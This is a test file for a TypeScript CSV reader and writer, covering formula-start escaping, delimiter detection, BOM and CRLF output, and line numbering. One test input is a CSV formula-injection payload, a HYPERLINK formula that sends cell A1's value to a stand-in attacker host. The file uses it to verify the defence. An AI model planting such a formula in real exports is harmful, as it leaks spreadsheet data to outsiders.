/** The one CSV reader and writer: formula escaping, delimiter detection, true line numbers. */
import { describe, expect, it } from 'vitest';
import { CsvError, readCsv, writeCsv } from './csv';

describe('writeCsv', () => {
  it('prefixes every cell OWASP names as a formula start with a quote, multi-line ones included', () => {
    const csv = writeCsv([
      ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1)', '+1', '-1', '\tx', '\rx', '=1\nsecond line'],
      ['plain', 'a = b', 'e-mail', 5, -0.5, true, null],
    ]);
    const [first, second] = readCsv(csv);
    expect(first?.cells).toEqual([
      `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, "'@SUM(1)", "'+1", "'-1", "'\tx", "'\nx", "'=1\nsecond line",
    ]);
    expect(second?.cells).toEqual(['plain', 'a = b', 'e-mail', '5', '-0.5', 'true', '']);
  });

  it('writes UTF-8 with a byte-order mark and CRLF rows, quoting what needs it', () => {
    expect(writeCsv([['Time', 'Message'], ['t', 'a, "b"'], ['t', 'नमस्ते']])).toBe('\uFEFFTime,Message\r\nt,"a, ""b"""\r\nt,नमस्ते\r\n');
  });
});

describe('readCsv', () => {
  it.each([[','], [';'], ['\t']])('detects the %j delimiter', (delimiter) => {
    const text = [['email', 'firstName', 'lastName'], ['a@b.c', 'Ann', 'Lee, Jr'], ['d@e.f', 'Bo', 'Chan']]
      .map((row) => row.map((cell) => (cell.includes(delimiter) ? `"${cell}"` : cell)).join(delimiter)).join('\n');
    expect(readCsv(text).map((row) => row.cells)).toEqual([['email', 'firstName', 'lastName'], ['a@b.c', 'Ann', 'Lee, Jr'], ['d@e.f', 'Bo', 'Chan']]);
  });

  it("numbers each row by its line in the file, after blank lines and quoted cells spanning lines", () => {
    const text = '\uFEFFname;note\r\n\r\nann;one\r\n   \r\n;\r\nbo;"two\r\nlines"\r\ncy;three\r\n\r\n';
    expect(readCsv(text)).toEqual([
      { line: 1, cells: ['name', 'note'] },
      { line: 3, cells: ['ann', 'one'] },
      { line: 6, cells: ['bo', 'two\nlines'] },
      { line: 8, cells: ['cy', 'three'] },
    ]);
  });

  it('refuses a file that is not CSV, naming the line', () => {
    expect(() => readCsv('a,b\n\n"open,2\n3,4')).toThrow(new CsvError('a quoted field is not closed (line 3)'));
    expect(() => readCsv('a,b\n"x"y,2\n')).toThrow(new CsvError('unexpected text after a closing quote on line 2'));
  });
});
